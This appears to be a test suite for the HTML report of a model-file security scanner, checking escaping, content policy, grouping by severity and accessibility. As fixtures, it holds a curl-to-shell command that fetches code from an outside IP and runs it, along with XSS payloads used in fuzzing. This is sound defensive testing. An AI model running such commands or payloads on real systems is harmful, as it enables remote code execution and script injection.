"""The HTML page: well-formed, self-contained, and nothing in it that a name put there."""

from __future__ import annotations

import base64
import hashlib
import re
from dataclasses import replace
from html.parser import HTMLParser

from hypothesis import given
from hypothesis import strategies as st
from tests.report.hostile import checks, dangerous, scans
from tests.report.samples import CALL, CLASS, CODE, NAME, checked, found, gap, lone, scanned

from modelward.core.result import Failure, Reason, Report, Waived
from modelward.report.html import render, tag
from modelward.report.view import Asked, report_label

VOID = {"meta", "br", "hr", "img", "input", "link"}
TAGS = set(
    "html head meta title style body main section h1 h2 h3 h4 p strong b article span code pre dl div dt dd a "
    "figure svg rect figcaption ul li i details summary table thead tbody tr th td".split()
)
ATTRIBUTES = set(
    "lang charset http-equiv content name class href rel x width height viewbox preserveaspectratio role "
    "aria-label id scope".split()
)


class Page(HTMLParser):
    """Checks that every element is closed in its turn, and keeps what there is."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.style = ""
        self.feed(text)
        self.close()
        assert self.open == []

    def handle_starttag(self, name: str, attributes: list[tuple[str, str | None]]) -> None:
        assert len({key for key, _ in attributes}) == len(attributes)
        self.tags.append((name, dict(attributes)))
        if name not in VOID:
            self.open.append(name)

    def handle_endtag(self, name: str) -> None:
        assert self.open.pop() == name

    def handle_data(self, data: str) -> None:
        if self.open[-1:] == ["style"]:
            self.style += data
        else:
            self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def page(*reports: Report) -> Page:
    return Page(render(reports, Asked()))


def test_it_loads_nothing_from_anywhere() -> None:
    made = page(checked(scanned(found(does="os.system('id')"), gap())))
    assert not {"script", "link", "img", "iframe", "object", "form", "base"} & {name for name, _ in made.tags}
    assert not re.search(r"url\(|@import|expression", made.style)
    (policy,) = [
        attributes["content"]
        for _, attributes in made.tags
        if attributes.get("http-equiv") == "Content-Security-Policy"
    ]
    digest = base64.b64encode(hashlib.sha256(made.style.encode()).digest()).decode()
    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    assert not any(key == "style" or key.startswith("on") for _, attributes in made.tags for key in attributes)


def test_it_says_everything_about_a_finding() -> None:
    call = found(inside=("a/data.pkl",), does="os.system('curl http://198.51.100.7/x | sh')", opcode="REDUCE")
    made = page(checked(scanned(call)))
    for words in (
        "deny: 1 critical, 0 unexamined, 3 files, policy baseline",
        "critical: 1",
        "loading this file runs a shell command",
        "pickle-dangerous-call",
        "optimizer.pkl > a/data.pkl, byte 68",
        "os.system('curl http://198.51.100.7/x | sh')",
        "REDUCE",
        CALL.why,
        CALL.do,
        "sha256:" + "cd" * 32,
        "sha3_256:" + "ab" * 32,
        "0.1.0 sha256:" + "ef" * 32,
        "3 of 3 files",
        "next: modelward explain pickle-dangerous-call",
    ):
        assert words in made.text, words
    links = [attributes["href"] for name, attributes in made.tags if name == "a"]
    assert links == [
        "https://cwe.mitre.org/data/definitions/502.html",
        "https://atlas.mitre.org/techniques/AML.T0011.000",
        "https://owasp.org/www-project-machine-learning-security-top-10/",
        "https://github.com/advisories/GHSA-655q-fx9r-782v",
        "https://docs.python.org/3/library/pickle.html",
    ]


def test_findings_are_grouped_by_severity_and_bars_show_how_many() -> None:
    made = page(scanned(found(CALL), found(CALL, "b"), found(NAME), found(CLASS), found(CODE), gap()))
    headings = re.findall(r"(critical|high|medium): (\d)", made.text)
    assert headings == [("critical", "2"), ("medium", "1")]
    assert "2 minor findings" in made.text
    bars = [(attributes["class"], attributes["width"]) for name, attributes in made.tags if name == "rect"]
    assert bars[:5] == [
        ("part critical", "33.33"),
        ("part medium", "16.67"),
        ("part low", "16.67"),
        ("part info", "16.67"),
        ("part unexamined", "16.67"),
    ]


def test_what_was_not_examined_is_named_with_its_remedy() -> None:
    made = page(scanned(gap(), gap("scaler.pkl", "cut off", "download it again", at=400)))
    assert "incomplete: 0 findings, 2 unexamined" in made.text
    for words in (
        "never a pass: 2",
        "big.safetensors",
        "git lfs pull",
        "scaler.pkl, from byte 400",
        "download it again",
    ):
        assert words in made.text


def test_needs_waivers_and_baselines_are_shown() -> None:
    call, name = found(), found(NAME)
    scan = replace(scanned(call, name), baselined=(name,))
    made = page(
        checked(
            scan, Reason("manifest", "need", "x.bin", "there is none"), waived=(Waived(call, "2027-01-01", "read"),)
        )
    )
    assert "unmet needs of the policy: 1" in made.text
    assert "there is none (x.bin)" in made.text
    assert "pickle-dangerous-call in optimizer.pkl until 2027-01-01: read" in made.text
    assert "baselined" in made.text and "zip-name-mismatch in optimizer.pkl" in made.text


def test_several_targets_and_one_that_failed() -> None:
    made = page(scanned(label="a"), Failure("b", "'b' is not there", 2), lone(found(), label="c.pkl"))
    assert "modelward: failed: 3 targets, 1 failed, 1 flagged, 1 clean" in made.text
    assert "failed: 'b' is not there" in made.text
    contents = [attributes["href"] for name, attributes in made.tags if name == "a"][:3]
    assert contents == ["#target-1", "#target-2", "#target-0"]
    assert {"target-0", "target-1", "target-2"} <= {attributes.get("id") for _, attributes in made.tags}


def test_a_page_has_an_end() -> None:
    many = [found(CALL, f"{n}.pkl") for n in range(800)] + [found(CLASS, f"{n}.pkl") for n in range(2000)]
    text = render([scanned(*many, found(CALL, "long.pkl", does="x" * 100_000))], Asked())
    assert len(text) < 2_000_000
    assert "<h3>critical: 801</h3>" in text
    assert "301 more findings are not shown: --format json lists all of them" in text
    assert "and 1,000 more: --format json" in text


def test_text_and_attributes_are_escaped() -> None:
    made = tag("a", "<b>&", tag("i", '"'), href="\"'><\n", class_="x")
    assert made == '<a href="&quot;&#x27;&gt;&lt;\\n" class="x">&lt;b&gt;&amp;<i>&quot;</i></a>'


MARKUP = st.sampled_from(
    [
        "<script>alert(1)</script>",
        "</style><script>",
        "</title>",
        "<!--",
        "-->",
        "]]>",
        "&lt;",
        "&#60;",
        "\"onload='x'",
        "' style=x ",
        "javascript:alert(1)",
        "<svg/onload=x>",
        "<?php",
        "\x00<b>",
    ]
)


@given(MARKUP, MARKUP, MARKUP)
def test_no_name_becomes_markup(file: str, words: str, label: str) -> None:
    plain = page(checked(scanned(found(NAME, "file", message="words", does="does"), gap("a", "b", "c"), label="label")))
    scan = scanned(found(NAME, file, message=words, inside=(file,), does=words), gap(file, words, words), label=label)
    made = page(checked(replace(scan, excluded=(file,)), Reason(words, "need", file, words), policy=label))
    assert {name for name, _ in made.tags} <= TAGS
    assert {key for _, attributes in made.tags for key in attributes} <= ATTRIBUTES
    assert made.style == plain.style
    assert [attributes["href"] for name, attributes in made.tags if name == "a"] == [
        attributes["href"] for name, attributes in plain.tags if name == "a"
    ]
    shown = words.replace("\x00", "\\x00")
    assert shown in made.text


@given(scans | checks)
def test_any_report_is_well_formed_and_hides_nothing(report: Report) -> None:
    text = render([report], Asked())
    made = Page(text)
    assert {name for name, _ in made.tags} <= TAGS
    assert dangerous(text.replace("\n", "")) == []
    assert text == render([report], Asked())
    assert report_label(report) == "" or made.text


def _luminance(colour: str) -> float:
    """https://www.w3.org/TR/WCAG22/#dfn-relative-luminance"""
    parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def test_every_tone_can_be_read_by_day_and_by_night() -> None:
    """https://www.w3.org/TR/WCAG22/#contrast-minimum"""
    day, night = re.findall(r":root \{[^}]*--ink[^}]*\}", page(lone()).style)
    for rules in (day, night):
        tones = dict(re.findall(r"--([a-z]+): (#[0-9a-f]{6})", rules))
        page_light = _luminance(tones.pop("page"))
        for tone in tones.keys() - {"box", "line"}:
            light, dark = sorted((page_light, _luminance(tones[tone])), reverse=True)
            assert (light + 0.05) / (dark + 0.05) >= 4.5, tone


def test_headings_begin_at_the_first_level_and_bars_say_what_they_show() -> None:
    for made in (page(scanned(found(), gap())), page(lone(), lone(found()))):
        levels = [int(name[1]) for name, _ in made.tags if re.fullmatch("h[1-6]", name)]
        assert levels[0] == 1 and levels.count(1) == 1
    labels = [attributes["aria-label"] for name, attributes in page(scanned(found(), gap())).tags if name == "svg"]
    assert labels[0] == "findings: 1 critical, 1 unexamined"


def test_many_formats_share_a_colour() -> None:
    scan = scanned()
    formats = tuple((f"kind{n}", n + 1) for n in range(9))
    made = page(replace(scan, coverage=replace(scan.coverage, formats=formats)))
    assert "9 kind8" in made.text and "5 kind4" in made.text and "kind3" not in made.text.partition("What this")[0]
    assert "10 of other kinds" in made.text
